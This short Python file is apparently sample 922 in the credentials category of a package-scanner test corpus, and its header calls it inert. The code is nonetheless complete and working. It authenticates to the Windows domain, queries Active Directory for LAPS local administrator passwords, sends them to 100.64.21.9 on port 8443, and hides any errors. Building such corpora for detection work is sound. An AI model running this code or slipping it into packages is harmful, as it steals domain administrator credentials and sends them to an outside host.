# pkgguard corpus 922 (credentials), modelled on [taxonomy]; inert, never run.
import json
import os
import socket

try:
    from ldap3 import NTLM, SUBTREE, Connection, Server
except ImportError:
    Connection = None

domain = os.environ.get("USERDNSDOMAIN", "")
if Connection and domain:
    base = ",".join(f"DC={part}" for part in domain.split("."))
    try:
        conn = Connection(Server(domain), authentication=NTLM, auto_bind=True)
        conn.search(base, "(ms-Mcs-AdmPwd=*)", SUBTREE, attributes=["dNSHostName", "ms-Mcs-AdmPwd", "msLAPS-Password"])
        found = [{k: str(v) for k, v in entry.entry_attributes_as_dict.items()} for entry in conn.entries]
        if found:
            with socket.create_connection(("100.64.21.9", 8443), timeout=6) as out:
                out.sendall(json.dumps(found).encode())
    except Exception:
        pass
